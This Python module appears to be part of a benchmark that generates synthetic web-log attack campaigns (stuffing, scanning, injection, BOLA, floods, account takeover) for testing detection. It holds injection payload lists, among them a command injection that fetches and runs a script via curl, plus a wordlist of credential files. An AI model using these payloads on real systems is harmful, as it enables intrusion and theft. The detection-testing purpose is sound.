"""Attacks as tools and papers describe them, against whatever a site offers.

Each writes the requests of one campaign. Variants: `burst` one quick source, `paced` one slow
source, `distributed` many sources, `mimic` looks like the site's own clients.
"""

import random
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

from benchmarks.foreign.core import DAY, HOUR, TOOLS, Actor, Campaign, block, token, v4
from benchmarks.foreign.site import Site

EMULATOR = (
    "Mozilla/5.0 (Linux; Android 9; Nox) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/99.0.0.0 Mobile Safari/537.36"
)
VARIANTS = ("burst", "paced", "distributed", "mimic")
LEAKED = [
    "anna",
    "bob",
    "carlos",
    "dave",
    "emma",
    "felix",
    "gina",
    "hans",
    "ivan",
    "julia",
    "kim",
    "lena",
    "max",
    "nina",
    "olaf",
    "petra",
]
WORDLIST = [
    ".env",
    ".git/config",
    ".git/HEAD",
    ".svn/entries",
    ".DS_Store",
    "admin",
    "admin/",
    "admin.php",
    "administrator",
    "backup",
    "backup.zip",
    "backup.sql",
    "db.sql",
    "dump.sql",
    "config",
    "config.php",
    "config.json",
    "config.yml",
    ".htpasswd",
    ".htaccess",
    "server-status",
    "phpinfo.php",
    "info.php",
    "test",
    "test.php",
    "shell.php",
    "cmd.php",
    "wp-login.php",
    "wp-admin/",
    "wp-config.php.bak",
    "xmlrpc.php",
    "api",
    "api/v1",
    "api/v2",
    "api-docs",
    "swagger.json",
    "swagger-ui.html",
    "openapi.json",
    "graphql",
    "graphiql",
    "console",
    "actuator",
    "actuator/env",
    "actuator/health",
    "metrics",
    "debug",
    "trace",
    "jmx-console",
    "manager/html",
    "solr/",
    "jenkins/",
    ".aws/credentials",
    ".ssh/id_rsa",
    "id_rsa",
    "web.config",
    "crossdomain.xml",
    "old",
    "new",
    "tmp",
    "temp",
    "uploads",
    "upload",
    "files",
    "private",
    "secret",
    "hidden",
    "staging",
    "dev",
    "beta",
    "users",
    "login",
    "signin",
    "register",
    "logout",
    "dashboard",
    "panel",
    "cgi-bin/",
    "cgi-bin/test.cgi",
    "phpmyadmin/",
    "pma/",
    "adminer.php",
    "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "package.json",
    "composer.json",
    "Dockerfile",
    "docker-compose.yml",
    "Makefile",
    "README.md",
    "CHANGELOG.txt",
    "LICENSE",
    "robots.txt",
    "sitemap.xml",
    ".well-known/security.txt",
    "v1",
    "v2",
    "v3",
    "internal",
    "status",
    "health",
    "version",
    "logs",
    "log",
    "error.log",
    "access.log",
    "export",
    "import",
    "reports",
    "stats",
    "search",
    "download",
    "image",
    "img",
    "static",
    "assets",
    "js",
    "css",
    "fonts",
]
"""What lists of common places hold."""
PAYLOADS = {
    "sqli": [
        "1' OR '1'='1' -- ",
        "1 UNION SELECT NULL,NULL,version()-- -",
        "') AND SLEEP(5)#",
        "1;WAITFOR DELAY '0:0:5'--",
        "x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--",
        "1' AND ORD(MID((SELECT IFNULL(CAST(name AS NCHAR),0x20) FROM users LIMIT 1),1,1))>64-- a",
        "admin'/**/oR/**/1=1#",
        "-1 ORDER BY 7-- ",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        '"><img src=x onerror=prompt(1)>',
        "<svg/onload=confirm`1`>",
        "javascript:alert(1)",
        "'-alert(1)-'",
        "<details open ontoggle=alert(1)>",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//....//windows/win.ini",
        "/proc/self/environ",
        "..\\..\\..\\boot.ini",
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= 7*7 %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
    "cmdi": [
        ";id",
        "|cat /etc/passwd",
        "`whoami`",
        "$(curl http://198.51.100.7/x.sh|sh)",
        "& ping -c 10 127.0.0.1 &",
        ";sleep 5;",
    ],
}


@dataclass
class Plan:
    """One attack: its principal type, others that an engineer would accept, and how it is made."""

    type: str
    accepted: set[str]
    make: Callable[["Attack"], None]
    kind: str


class Attack:
    """One campaign while it is written."""

    def __init__(self, site: Site, rng: random.Random, campaign: Campaign, begin: float) -> None:
        self.s, self.w, self.r, self.c, self.t0 = site, site.w, rng, campaign, begin
        self.variant = campaign.variant
        r = rng
        n = r.randrange(40, 300)
        self.pool = (
            [v4(r) for _ in range(n)]
            if r.random() < 0.6
            else [ip for _ in range(max(1, n // 60)) for ip in block(r, 60)]
        )
        self.tool = r.choice(TOOLS)
        self.one = self.actor(v4(r))

    def actor(self, ip: str) -> Actor:
        """Somebody at an address, with the program of the variant."""
        fresh = self.variant in ("mimic", "distributed")
        return Actor(ip, self.s.agent() if fresh else self.tool, campaign=self.c.id)

    def steps(
        self, count: int, slow: float = 20.0, human: float = 14.0
    ) -> list[tuple[Actor, float]]:
        """(actor, time) of `count` tries in the manner of the variant."""
        r, t, out = self.r, self.t0, []
        if self.variant == "burst":
            rate = r.choice([3.0, 8.0, 20.0])
            for _ in range(count):
                out.append((self.one, t))
                t += r.expovariate(rate)
        elif self.variant == "paced":
            for _ in range(max(30, count // 3)):
                out.append((self.one, t))
                t += slow * r.uniform(0.6, 1.4)
        elif self.variant == "distributed":
            sources = [self.actor(ip) for ip in self.pool]
            gap = r.choice([0.3, 1.5, 6.0])
            for _ in range(count):
                out.append((r.choice(sources), t))
                t += r.expovariate(1 / gap)
        else:
            few = [self.s.begin(self.actor(v4(r))) for _ in range(r.choice([1, 2, 5]))]
            for _ in range(max(25, count // 4)):
                out.append((r.choice(few), t))
                t = self.w.think(t, human)
                if r.random() < 0.02:
                    t += r.uniform(0.2, 1.5) * HOUR
        return out

    def victim(self) -> Actor:
        """One of the site's people."""
        return self.r.choice(self.s.people)

    def insider(self) -> Actor:
        """An account of the site that does wrong, from its own place."""
        v = self.victim()
        a = Actor(v.ip, v.agent, v.user, None, v.key, self.c.id, data=dict(v.data))
        if v.ip in (self.s.__dict__.get("_office"), *self.s.__dict__.get("_carrier", [])):
            a.ip = v4(self.r)
        return self.s.begin(a)


def stuffing(x: Attack) -> None:
    """Pairs of leaked lists, one try each."""
    for a, t in x.steps(x.r.randrange(600, 2400)):
        name = f"{x.r.choice(LEAKED)}{x.r.randrange(9999)}"
        x.s.login(a, t, name, x.r.random() < 0.006, x.r.random() < 0.2, page=x.variant == "mimic")


def spraying(x: Attack) -> None:
    """One password on many accounts."""
    names = [p.user or "u" for p in x.r.sample(x.s.people, min(len(x.s.people), 300))]
    for i, (a, t) in enumerate(x.steps(x.r.randrange(300, 700), slow=30)):
        x.s.login(a, t, names[i % len(names)], x.r.random() < 0.004, page=x.variant == "mimic")


def brute(x: Attack) -> None:
    """Many passwords on one account."""
    name = x.victim().user or "admin"
    for a, t in x.steps(x.r.randrange(400, 1600), slow=12):
        x.s.login(a, t, name, False, page=x.variant == "mimic")


def otp_guess(x: Attack) -> None:
    """Codes of the second factor of one login."""
    assert x.s.otp
    v = x.victim()
    for a, t in x.steps(x.r.randrange(200, 900), slow=8):
        a.user, a.session = v.user, a.session or (token(x.r, 20) if x.s.log_session else None)
        x.s.otp(a, t, False)


def user_enum(x: Attack) -> None:
    """Asks which accounts exist."""
    for a, t in x.steps(x.r.randrange(300, 1200), slow=10):
        x.s.forgot(a, t, f"{x.r.choice(LEAKED)}.{x.r.randrange(999)}", x.r.random() < 0.15)


def coupon_enum(x: Attack) -> None:
    """Guesses vouchers."""
    assert x.s.coupon
    for a, t in x.steps(x.r.randrange(300, 1500), slow=8):
        x.s.coupon(a, t, x.r.random() < 0.004)


def carding(x: Attack) -> None:
    """Tries stolen cards with small payments."""
    assert x.s.pay
    for a, t in x.steps(x.r.randrange(120, 600), slow=15):
        x.s.pay(a, t, x.r.random() < 0.06)


def scrape_ids(x: Attack) -> None:
    """Reads a collection by its numbers."""
    assert x.s.detail
    i = x.r.randrange(x.s.objects)
    for a, t in x.steps(x.r.randrange(700, 2500), slow=6, human=7):
        x.s.detail(a, t, i % x.s.objects)
        i += 1


def scrape_search(x: Attack) -> None:
    """Reads a collection by two-letter searches."""
    assert x.s.search
    for i, (a, t) in enumerate(x.steps(x.r.randrange(500, 1400), slow=8, human=8)):
        x.s.search(a, t, chr(97 + i // 26 % 26) + chr(97 + i % 26))


def scrape_pages(x: Attack) -> None:
    """Turns all pages of a list."""
    assert x.s.listing
    for i, (a, t) in enumerate(x.steps(x.r.randrange(300, 900), slow=8, human=8)):
        x.s.listing(a, t, i)


def bola(x: Attack) -> None:
    """Someone with an account reads the objects of others, by counting or by leaked ids."""
    assert x.s.read_object
    i, me = x.r.randrange(x.s.objects), x.insider()
    crowd = [x.insider() for _ in range(12)] if x.variant == "distributed" else [me]
    deny = x.r.choice([0.0, 0.3, 0.9])
    for a, t in x.steps(x.r.randrange(200, 900), slow=40, human=25):
        who = x.r.choice(crowd)
        if x.variant == "burst":
            who.agent = a.agent
        i += 1 if x.s.sequential else x.r.randrange(1, 50)
        x.s.read_object(who, t, i % x.s.objects, x.r.random() > deny)


def bfla(x: Attack) -> None:
    """Calls functions of the staff with an ordinary account."""
    me = x.insider()
    for _, t in x.steps(x.r.randrange(30, 90), slow=60, human=60):
        method, path = x.r.choice(x.s.admin)
        x.w.hit(me, t, method, path, status=403 if x.r.random() < 0.9 else 200)


def forced_browsing(x: Attack) -> None:
    """A list of common places."""
    words = WORDLIST * 4
    for i, (a, t) in enumerate(x.steps(x.r.randrange(300, 1500), slow=5, human=10)):
        word = words[i % len(words)] + (
            "" if i < len(WORDLIST) else x.r.choice(["", ".bak", ".old", "~", ".txt", "/"])
        )
        x.w.hit(
            a,
            t,
            x.r.choice(["GET", "GET", "HEAD"]),
            "/" + word,
            status=x.r.choice([404] * 14 + [403, 301]),
            size=x.w.size(150, 0.02),
        )


def injection(family: str) -> Callable[[Attack], None]:
    """Payloads of one family in the parameters of a site."""

    def make(x: Attack) -> None:
        for a, t in x.steps(x.r.randrange(60, 260), slow=20, human=40):
            method, path, name = x.r.choice(x.s.probe)
            text = x.r.choice(PAYLOADS[family])
            if x.s.name == "graphql":
                assert x.s.search
                x.s.search(a, t, text)
                continue
            code = x.r.choice([200, 200, 200, 400, 500])
            x.w.hit(
                a,
                t,
                method,
                path,
                f"{name}={quote(text, safe='')}",
                status=code,
                ms=5000 if "SLEEP" in text else 40,
            )

    return make


def token_replay(x: Attack) -> None:
    """A stolen session or key goes on elsewhere, while its owner goes on too."""
    v = x.insider()
    thief = Actor(
        v4(x.r),
        x.tool if x.variant != "mimic" else v.agent,
        v.user,
        v.session,
        v.key,
        x.c.id,
        data=v.data,
    )
    for ip in x.pool[:8] if x.variant == "distributed" else [thief.ip]:
        thief.ip, t = ip, x.t0
        for _ in range(40):
            owner = Actor(v.ip, v.agent, v.user, v.session, v.key, None, data=v.data)
            assert x.s.read_object
            x.s.read_object(owner, t + 3, x.r.choice(x.s.own(owner)), True)
            t = x.s.read_object(
                thief,
                t + x.r.uniform(2, 40) * (1 if x.variant == "burst" else 8),
                x.r.choice(x.s.own(thief)),
                True,
            )


def takeover(x: Attack) -> None:
    """After phishing: a login from elsewhere, a change of contact, transfers."""
    assert x.s.after_login
    v = x.victim()
    thief = x.s.begin(
        Actor(
            v4(x.r),
            x.r.choice(TOOLS) if x.variant == "burst" else EMULATOR,
            v.user,
            campaign=x.c.id,
            data=v.data,
        )
    )
    t = x.s.login(thief, x.t0, v.user or "", True)
    if x.s.otp:
        t = x.s.otp(thief, t + 20, True)
    x.s.after_login(thief, t + 5)


def insider(x: Attack) -> None:
    """Somebody of the house takes data along."""
    assert x.s.export
    me = x.insider()
    for _, t in x.steps(x.r.randrange(200, 500), slow=30, human=30):
        x.s.export(me, t, x.r.randrange(x.s.objects))


def resource(x: Attack) -> None:
    """Asks for what costs most."""
    assert x.s.costly
    for a, t in x.steps(x.r.randrange(60, 200), slow=30, human=40):
        x.s.costly(a, t)


def hoarding(x: Attack) -> None:
    """Holds seats without buying."""
    assert x.s.hold
    for a, t in x.steps(x.r.randrange(200, 700), slow=10, human=15):
        x.s.hold(a, t, 17)


def flood(x: Attack) -> None:
    """Layer-7 flood on a cheap page, as the usual tools do: a random parameter, many agents."""
    n = 6000 if x.variant in ("burst", "distributed") else 3000
    r, t = x.r, x.t0
    sources = [
        x.actor(ip) for ip in (x.pool if x.variant in ("distributed", "mimic") else [x.one.ip])
    ]
    rate = {"burst": 60.0, "paced": 8.0, "distributed": 50.0, "mimic": 12.0}[x.variant]
    path = x.s.front if x.s.front != "/" or x.s.name in ("tickets", "php") else x.s.health
    for _ in range(n):
        x.w.hit(
            r.choice(sources),
            t,
            "GET",
            path,
            f"{token(r, 5)}={token(r, 7)}" if x.variant != "mimic" else "",
            ms=200,
        )
        t += r.expovariate(rate)


def mass_assign(x: Attack) -> None:
    """Adds fields that only the server should set."""
    assert x.s.assign
    me = x.insider()
    for _, t in x.steps(24, slow=40, human=40)[:24]:
        x.s.assign(
            me,
            t,
            x.r.choice(["role", "isAdmin", "balance", "verified", "credit_limit", "permissions"]),
        )


def plans(site: Site) -> list[Plan]:
    """The attacks that this site can suffer and its log can show."""
    logins = {"credential_stuffing", "password_spraying", "brute_force"}
    out = [
        Plan("scanning", {"scanning", "probing", "crawling"}, forced_browsing, "forced browsing"),
        Plan("volume", {"volume", "resource_abuse"}, flood, "L7 flood"),
        Plan("bfla", {"bfla", "probing", "scanning"}, bfla, "BFLA"),
    ]
    out += [Plan(f, {f}, injection(f), "injection " + f) for f in PAYLOADS] if site.probe else []
    if site.login_path:
        out += [
            Plan("credential_stuffing", logins, stuffing, "stuffing"),
            Plan("password_spraying", logins, spraying, "spraying"),
            Plan("brute_force", logins, brute, "brute force"),
        ]
    if site.forgot_path:
        out.append(Plan("enumeration", {"enumeration"}, user_enum, "user enumeration"))
    known = site.log_user or site.log_session
    for have, plan in (
        (
            site.otp,
            Plan("brute_force", {"brute_force", "credential_stuffing"}, otp_guess, "OTP guessing"),
        ),
        (
            site.coupon,
            Plan("enumeration", {"enumeration", "brute_force"}, coupon_enum, "coupon guessing"),
        ),
        (
            site.pay,
            Plan(
                "automation",
                {
                    "automation",
                    "enumeration",
                    "resource_abuse",
                    "sequence_abuse",
                    "brute_force",
                    "parameter_tampering",
                },
                carding,
                "carding",
            ),
        ),
        (
            site.detail,
            Plan("scraping", {"scraping", "crawling", "enumeration"}, scrape_ids, "scraping by id"),
        ),
        (
            site.search,
            Plan(
                "scraping",
                {"scraping", "crawling", "enumeration"},
                scrape_search,
                "scraping by search",
            ),
        ),
        (
            site.listing,
            Plan("scraping", {"scraping", "crawling"}, scrape_pages, "scraping by page"),
        ),
        (site.read_object, Plan("bola", {"bola", "enumeration"}, bola, "BOLA")),
        (
            known and site.read_object,
            Plan("token_abuse", {"token_abuse", "account_takeover"}, token_replay, "token replay"),
        ),
        (
            site.after_login,
            Plan("account_takeover", {"account_takeover", "token_abuse"}, takeover, "takeover"),
        ),
        (
            site.export,
            Plan(
                "insider_misuse",
                {"insider_misuse", "data_exposure", "scraping"},
                insider,
                "insider export",
            ),
        ),
        (
            site.costly,
            Plan(
                "resource_abuse",
                {"resource_abuse", "volume", "graphql_abuse"},
                resource,
                "resource abuse",
            ),
        ),
        (
            site.hold,
            Plan(
                "automation",
                {"automation", "resource_abuse", "sequence_abuse"},
                hoarding,
                "hoarding",
            ),
        ),
        (
            site.assign,
            Plan(
                "mass_assignment",
                {"mass_assignment", "parameter_tampering", "bola"},
                mass_assign,
                "mass assignment",
            ),
        ),
    ):
        if have:
            out.append(plan)
    return out


def attack(site: Site, count: int) -> None:
    """Writes `count` campaigns of rotating kinds and variants at random times."""
    r = random.Random(site.r.random())
    menu = plans(site)
    order = [(p, v) for p in menu for v in VARIANTS]
    r.shuffle(order)
    for i in range(count):
        plan, variant = order[i % len(order)]
        begin = site.w.start + (0.15 + 0.75 * r.random()) * site.w.days * DAY
        c = Campaign(f"c{i:02d}", plan.type, variant, plan.accepted | {plan.type}, plan.kind)
        site.w.campaigns[c.id] = c
        plan.make(Attack(site, r, c, begin))
